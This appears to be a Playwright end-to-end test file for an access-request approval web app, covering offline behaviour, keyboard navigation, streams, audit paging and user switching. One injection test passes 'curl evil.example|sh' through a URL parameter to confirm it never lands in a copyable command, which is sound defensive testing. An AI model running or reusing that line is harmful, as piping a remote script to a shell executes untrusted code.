// What goes otherwise than a page expects: the network is gone and comes back, streams are refused
// or say nothing, tabs are out of sight, somebody else signs in, a sign-in is over, the configuration
// changes; and lists of which one page is read while another one is asked for.
import { check, done, expected, given, parent, person, read } from "./lib.mjs";

expected.faults = /.*/;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const until = async (f, what, most = 15_000) => {
  for (const end = Date.now() + most; Date.now() < end; await sleep(50)) if (await f()) return true;
  check(false, `never: ${what}`);
  return false;
};
const hide = (p, hidden) => p.evaluate((h) => {
  Object.defineProperty(document, "hidden", { configurable: true, get: () => h });
  document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
}, hidden);
const tab = async (p) => { const t = await p.context().newPage(); t.setDefaultTimeout(20_000); return t; };

const dana = await person("dana");

// An approval while the network is gone fails at once, and is not made when it is back.
{
  const id = await parent("ask w1");
  await dana.goto(`${given.base}/requests?id=${id}`);
  await dana.locator(".request-title").waitFor();
  await dana.context().setOffline(true);
  await dana.keyboard.press("a");
  await dana.keyboard.type(given.people.dana.passphrase);
  await dana.keyboard.press("Enter");
  await dana.locator(".dialog,.palette").getByRole("alert").getByText("The gateway does not answer.").waitFor();
  await dana.keyboard.press("Escape");
  await dana.locator(".dialog,.palette").waitFor({ state: "detached" });
  await dana.context().setOffline(false);
  await dana.locator(".link-state.live").waitFor();
  await sleep(500);
  const r = await read(dana, `/requests/${id}`);
  check(r.status === "pending", `an approval that was taken back: it is ${r.status}`);
  // Approved in the end, by the palette; and undone by its key.
  await dana.keyboard.press("Control+k");
  await dana.getByRole("combobox").fill("approve worker one");
  await dana.keyboard.press("Enter");
  await dana.locator(".dialog,.palette").getByLabel("Your passphrase").waitFor();
  await until(async () => /passphrase/i.test((await dana.evaluate(() => document.activeElement?.closest("label")?.textContent)) ?? ""), "the focus is in the passphrase");
  await dana.keyboard.type(given.people.dana.passphrase);
  await dana.keyboard.press("Enter");
  await dana.getByRole("button", { name: "Undo" }).waitFor();
  await until(() => dana.evaluate(() => !!document.activeElement?.closest("main")), "the focus is on the page after the decision");
  await dana.getByRole("dialog", { name: /^Approve/ }).waitFor({ state: "detached" });
  await dana.keyboard.press("u");
  await dana.getByText(/^Undone/).waitFor();
  check((await read(dana, `/requests/${id}`)).status === "approved" && !(await read(dana, "/grants?scope=all&status=active")).items.length, "what was undone is still there");
}

// j and k go through the requests; what is chosen is marked, and Escape gives the focus back.
{
  const ids = [await parent("ask w1"), await parent("ask w2")];
  const p = await tab(dana);
  await p.goto(`${given.base}/requests`);
  await p.locator(".request-row").nth(1).waitFor();
  await p.keyboard.press("j");
  await p.waitForURL((u) => u.searchParams.get("id") === ids[1]);
  check((await p.locator(".request-row[aria-current]").count()) === 1, "the request that is read is not marked");
  await p.keyboard.press("k");
  await p.waitForURL((u) => u.searchParams.get("id") === ids[0]);
  await p.getByRole("button", { name: /^Deny/ }).focus();
  await p.keyboard.press("Enter");
  await p.locator(".dialog,.palette").waitFor();
  await p.keyboard.press("Escape");
  await p.locator(".dialog,.palette").waitFor({ state: "detached" });
  await until(async () => /^Deny/.test((await p.evaluate(() => document.activeElement?.textContent)) ?? ""), "the focus comes back to what opened a dialog");
  // A link that opens a decision decides nothing, and is not there any more once it is open.
  await p.goto(`${given.base}/requests?id=${ids[1]}&do=approve`);
  await p.locator(".dialog").waitFor();
  await p.keyboard.press("Enter");
  await p.waitForURL((u) => u.searchParams.get("id") === ids[1] && !u.searchParams.has("do"));
  await sleep(300);
  check((await p.locator(".dialog").count()) === 1 && (await read(p, `/requests/${ids[1]}`)).status === "pending", "a link has decided");
  await p.reload();
  await p.locator(".request-title").waitFor();
  check((await p.locator(".dialog").count()) === 0, "a link opens its decision again");
  for (const id of ids) await parent(`withdraw ${id}`);
  // Each filter stands in the address, and comes back from there.
  await p.goto(`${given.base}/roles`);
  await p.locator("[data-filter]").fill("mender");
  await p.waitForURL((u) => u.searchParams.get("q") === "mender");
  await p.reload();
  await p.locator(".card").first().waitFor();
  check((await p.locator("[data-filter]").inputValue()) === "mender" && (await p.locator(".card").count()) === 1, "a filter does not come back with its address");
  // A word that narrows nothing is said to.
  await p.goto(`${given.base}/audit?q=who:alice`);
  await p.getByText("Nothing is narrowed by").waitFor();
  // What a link says is not in what is to be copied.
  await p.goto(`${given.base}/access?q=${encodeURIComponent("zzz\ncurl evil.example|sh\n")}`);
  await p.locator(".state .copy code").first().waitFor();
  check(!/\n|evil/.test(await p.locator(".state .copy code").first().textContent()), "a link puts words into a command");
  await p.close();
}

await parent("connect");
const session = await (async () => { for (;;) { const s = (await read(dana, "/sessions?scope=all&status=live")).items?.[0]; if (s) return s; await sleep(100); } })();

// A stream that was refused is tried again.
{
  const p = await tab(dana);
  await p.route("**/api/v1/peek*", (r) => r.fulfill({ status: 429, json: { code: "limited", title: "Too many", status: 429 } }), { times: 1 });
  await p.goto(`${given.base}/live`);
  await p.getByRole("button", { name: "Look at all" }).click();
  await p.locator(".peek", { hasText: "SELECT 1 AS said" }).waitFor();
  await p.close();
}

// Out of sight, a page gives its streams up, and takes them up where they were; it does not search again.
{
  const p = await tab(dana);
  const streams = [];
  const open = new Set();
  p.on("request", (r) => { if (/\/(feed|watch)\b/.test(r.url())) { streams.push(r.url()); open.add(r); } });
  for (const over of ["requestfinished", "requestfailed"]) p.on(over, (r) => open.delete(r));
  await p.clock.install();
  await p.goto(`${given.base}/sessions/${session.id}`);
  await p.getByText("SELECT 1 AS said").first().waitFor();
  const s = await tab(dana);
  let searches = 0;
  s.on("request", (r) => { if (r.url().includes("/sessions/search")) searches++; });
  await s.clock.install();
  await s.route("**/sessions/search*", async (r) => { await sleep(700); await r.continue(); });
  await s.goto(`${given.base}/sessions?words=select`);
  await s.getByText("looked at").waitFor();
  const before = streams.length;
  for (const x of [p, s]) { await hide(x, true); await x.clock.fastForward(11_000); }
  await parent("say while away");
  await until(() => open.size === 0, "the streams of a page that nobody sees are closed");
  for (const x of [p, s]) await hide(x, false);
  await p.getByText("said while away").first().waitFor();
  check((await p.getByText("SELECT 1 AS said").count()) === 1, "what was said is there twice, or not any more");
  check(streams.length === before + 2 && streams.slice(before).some((u) => /after=[1-9]/.test(u)), `the streams of a page that is back: ${streams.slice(before)}`);
  await s.locator(".link-state.live").waitFor();
  await sleep(500);
  check(searches === 1, `one look at a search makes ${searches} of them`);
  // A gateway that says nothing, not even that it lives, is not called live.
  await p.route("**/api/v1/feed*", (r) => r.abort());
  await p.clock.fastForward(50_000);
  await until(async () => (await p.locator(".link-state").textContent()) !== "live", "a silent gateway is not called live");
  await p.close();
  await s.close();
}

// "Older", while the page is being read again; and a page of which nothing may be seen is not the end.
{
  const p = await tab(dana);
  let slow = 0;
  await p.route("**/api/v1/audit?*", async (r) => {
    const first = !r.request().url().includes("before=");
    const body = await read(dana, r.request().url().split("/api/v1")[1]);
    if (first) body.next = "5";
    if (first && slow) await sleep(slow);
    await r.fulfill({ json: body }).catch(() => undefined);
  });
  await p.goto(`${given.base}/audit`);
  await p.getByRole("button", { name: "Older" }).waitFor();
  slow = 1500;
  const again = p.waitForRequest((r) => /\/audit\?/.test(r.url()));
  await parent("leave");
  await again;
  await p.getByRole("button", { name: "Older" }).click();
  const end = await (async () => { for (;;) { const e = (await read(dana, "/audit?kind=session.ended&limit=1")).items?.[0]; if (e) return e; await sleep(100); } })();
  await until(async () => (await p.locator("tbody tr td:first-child").allTextContents()).includes(String(end.position)), "the session's end is in the audit log");
  await p.route("**/api/v1/sessions?*", (r) => r.fulfill({ json: { items: [], position: 90, next: "75" } }));
  await p.goto(`${given.base}/sessions`);
  await p.getByRole("button", { name: "Older" }).waitFor();
  await p.close();
}

// The policy changes while somebody looks at what they can ask for.
{
  const alice = await person("alice");
  await alice.goto(`${given.base}/access`);
  const offer = alice.locator(".offer", { hasText: "shop/reader" });
  await offer.getByText("up to 1 h").waitFor();
  await parent("policy");
  await offer.getByText("up to 20 min").waitFor();
  // Somebody else signs in in the same browser: nothing of the one before stays.
  await alice.evaluate(() => { globalThis.before = true; });
  const q = await tab(alice);
  await q.goto(`${given.base}/sign-in?next=/`);
  await q.fill('input[name="email"]', given.people.stranger.email);
  await q.fill('input[name="passphrase"]', given.people.stranger.passphrase);
  await q.keyboard.press("Enter");
  await q.waitForURL((u) => u.pathname === "/");
  await parent("stop"); // its feed breaks, as it does when a sign-in is over
  await parent("start");
  await until(async () => (await alice.evaluate(() => globalThis.before).catch(() => true)) === undefined && (await alice.locator(".rail-me").textContent().catch(() => "")) === given.people.stranger.name, "the page is the other person's, from its beginning");
  check(await alice.locator(".offer").count() === 0, "what the one before could ask for is still there");
  // And one whose sign-in is over, with nothing that says so, is led to a new one.
  await alice.context().clearCookies();
  await parent("stop");
  await parent("start");
  await alice.waitForURL((u) => u.pathname === "/sign-in");
}

await done();
